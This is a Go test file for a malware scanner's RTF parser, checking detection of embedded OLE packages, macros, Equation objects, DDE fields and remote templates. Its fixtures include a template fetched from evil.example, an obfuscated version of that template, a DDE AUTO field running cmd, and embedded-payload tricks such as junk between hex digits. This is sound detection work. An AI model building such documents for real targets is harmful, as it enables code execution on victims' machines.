package archive

import (
	"encoding/binary"
	"encoding/hex"
	"strings"
	"testing"
)

// ole1 makes an OLE 1 object.
func ole1(class, native string) string {
	le := binary.LittleEndian
	b := le.AppendUint32(le.AppendUint32(nil, 0x501), 2)
	b = append(le.AppendUint32(b, uint32(len(class)+1)), class+"\x00"...)
	b = le.AppendUint32(le.AppendUint32(b, 0), 0)
	return string(le.AppendUint32(b, uint32(len(native)))) + native
}

func TestRTFDocuments(t *testing.T) {
	pack := hex.EncodeToString([]byte(ole1("Package", nativePackage("run.js", eicar)[4:])))
	var broken strings.Builder
	for i, c := range pack {
		broken.WriteRune(c)
		switch i % 7 {
		case 1:
			broken.WriteString("\r\n")
		case 3:
			broken.WriteString(`{\*\junk 41414141}`)
		case 5:
			broken.WriteString(`\par `)
		}
	}
	document := string(makeOLE(oleEntry{name: "Macros", inside: vbaProject("Module1", macro)}))
	for _, test := range []struct {
		name, rtf string
		member    string // path=content
		symbols   []string
	}{
		{"plain text", `{\rtf1\ansi hello {\b world}}`, "", nil},
		{"an embedded file", `{\rtf1{\object\objemb{\*\objclass Package}{\*\objdata ` + pack + `}}}`, "run.js=" + eicar, []string{"office object"}},
		{"an embedded file with junk between the digits", `{\rt{\object\objemb{\*\objdata ` + broken.String() + `}}}`, "run.js=" + eicar, []string{"office object"}},
		{"an object whose groups are not closed", `{\rtf1{\object{\*\objdata ` + pack, "run.js=" + eicar, []string{"office object"}},
		{"data in binary", `{\rtf1{\object{\*\objdata\bin7 ` + "1234567" + `}}}`, "object=1234567", []string{"office object"}},
		{"an equation", `{\rtf1{\object{\*\objclass Equation.3}{\*\objdata ` + hex.EncodeToString([]byte(ole1("Equation.3", "exploit"))) + `}}}`, "Equation.3=exploit", []string{"office equation", "office object"}},
		{"a document with macros", `{\rtf1{\object{\*\objdata ` + hex.EncodeToString([]byte(ole1("Word.Document.8", document))) + `}}}`,
			"object › Module1.bas=" + macro, []string{"office autorun", "office macro", "office object"}},
		{"a document whose header is missing, half a byte off", `{\rtf1{\object{\*\objdata 0` + hex.EncodeToString([]byte(document)) + `0}}}`,
			"object › Module1.bas=" + macro, []string{"office autorun", "office macro", "office object"}},
		{"a template from the network", `{\rtf1{\*\template http://evil.example/t.dotm}}`, "", []string{"office template"}},
		{"a template in \\u characters", `{\rtf1{\*\template \u104?\u116?\u116?\u112?://evil.example/t}}`, "", []string{"office template"}},
		{"a DDE field", `{\rtf1{\field{\*\fldinst {\b DDE}{\i AUTO} cmd}{\fldrslt x}}}`, "", []string{"office dde"}},
		{"a link", `{\rtf1{\field{\*\fldinst HYPERLINK "https://example.com/"}{\fldrslt x}}}`, "", nil},
	} {
		t.Run(test.name, func(t *testing.T) {
			w := open(t, "a.doc", []byte(test.rtf), Limits{})
			w.expect(t, test.symbols...)
			if path, content, ok := strings.Cut(test.member, "="); ok {
				w.wantMember(t, path, content)
			} else if len(w.members) != 0 {
				t.Errorf("members %q", w.contents())
			}
		})
	}
}

func TestLinksOfRTFAreGiven(t *testing.T) {
	w := open(t, "a.rtf", []byte(`{\rtf1{\field{\*\fldinst HYPERLINK "https://example.com/a"}{\fldrslt x}}{\field{\*\fldinst INCLUDEPICTURE "http://track.example/p"}}}`), Limits{})
	if len(w.Links) != 2 || w.Links[0].URL != "https://example.com/a" || w.Links[1].Kind != "image" {
		t.Errorf("links %+v", w.Links)
	}
}
